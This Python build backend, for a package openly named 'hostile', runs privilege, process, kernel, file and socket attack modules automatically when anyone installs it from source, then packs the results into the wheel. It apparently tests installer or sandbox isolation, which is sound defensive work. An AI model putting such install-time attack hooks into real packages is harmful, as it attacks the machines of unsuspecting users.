"""A build backend in the package itself: whoever installs the package from source runs it."""

import os
import zipfile

from attacks import files, kernel, privileges, processes, sockets  # noqa: F401 - each fills its family
from attacks.registry import run

_INFO = 'hostile-1.0.dist-info'
_NAME = 'hostile-1.0-py3-none-any.whl'


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    results = list(run(['files', 'privileges', 'processes', 'kernel', 'sockets'], 5))
    with zipfile.ZipFile(os.path.join(wheel_directory, _NAME), 'w') as wheel:
        wheel.writestr('hostile_results.py', f'RESULTS = {results!r}\n')
        wheel.writestr(f'{_INFO}/METADATA', 'Metadata-Version: 2.1\nName: hostile\nVersion: 1.0\n')
        wheel.writestr(f'{_INFO}/WHEEL', 'Wheel-Version: 1.0\nGenerator: hostile\nRoot-Is-Purelib: true\nTag: py3-none-any\n')
        wheel.writestr(f'{_INFO}/RECORD', '')
    return _NAME
